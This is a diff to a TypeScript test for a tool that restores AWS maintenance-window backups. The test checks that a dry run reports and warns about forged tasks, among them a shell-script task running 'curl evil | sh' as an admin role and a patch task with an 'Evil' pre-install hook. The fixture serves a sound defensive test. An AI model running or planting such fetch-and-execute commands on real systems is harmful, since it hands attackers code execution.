@@ -67,29 +67,37 @@ it('a quota that all of it does not fit into stops it before the first call', as
   expect(await writesIn(sandbox)).toEqual(writes);
 });
 
-it('names what each task runs, with what, where and as whom, and warns of what does not patch', async () => {
+it('names what each task runs, with what, where and as whom, and warns of what does more than patch', async () => {
   const { sandbox, backup } = await cleanedUp();
   const [window] = backup?.windows ?? [];
   if (backup === undefined || window === undefined) throw new Error('nothing was backed up');
-  const task = {
-    id: 'forged',
+  const task = (id: string, TaskArn: string, Parameters: Readonly<Record<string, string[]>>) => ({
+    id,
     members: {
-      TaskArn: 'AWS-RunShellScript',
+      TaskArn,
       TaskType: 'RUN_COMMAND',
       Targets: [{ Key: 'InstanceIds', Values: ['i-0123456789abcdef0'] }],
       ServiceRoleArn: 'arn:aws:iam::123456789012:role/admin',
-      TaskInvocationParameters: { RunCommand: { Parameters: { commands: ['curl evil | sh'] } } },
+      TaskInvocationParameters: { RunCommand: { Parameters } },
     },
-  };
-  const forged = { ...backup, windows: [{ ...window, tasks: [...window.tasks, task] }] };
+  });
+  const tasks = [
+    task('forged', 'AWS-RunShellScript', { commands: ['curl evil | sh'] }),
+    task('led', 'AWS-RunPatchBaselineWithHooks', { PreInstallHookDocName: ['Evil'], OnExitHookDocName: ['AWS-Noop'] }),
+  ];
+  const forged = { ...backup, windows: [{ ...window, tasks: [...window.tasks, ...tasks] }] };
   const { out } = await restore(sandbox, forged, { isDryRun: true });
-  const words =
-    'AWS-RunShellScript (commands: curl evil | sh) on InstanceIds = i-0123456789abcdef0 as arn:aws:iam::123456789012:role/admin';
+  const where = 'on InstanceIds = i-0123456789abcdef0 as arn:aws:iam::123456789012:role/admin';
   expect(out).toContainEqual(
     expect.stringMatching(/Register the task of .* again \(it was \S+\): AWS-RunPatchBaseline \(Operation: .* on tag:/),
   );
-  expect(out.filter((line) => line.includes(words))).toHaveLength(2);
-  expect(out).toContainEqual(expect.stringMatching(/^! The task of .* does not patch: /));
+  expect(out.filter((line) => line.includes(`AWS-RunShellScript (commands: curl evil | sh) ${where}`))).toHaveLength(2);
+  expect(out.filter((line) => /^! The task of /.test(line))).toEqual([
+    expect.stringContaining(' does not patch: AWS-RunShellScript '),
+    expect.stringMatching(
+      / does more than patch, by PreInstallHookDocName: .* on InstanceIds = i-0123456789abcdef0 as /,
+    ),
+  ]);
 });
 
 it('a dry run, or one that nobody has confirmed, shows the plan and changes nothing', async () => {
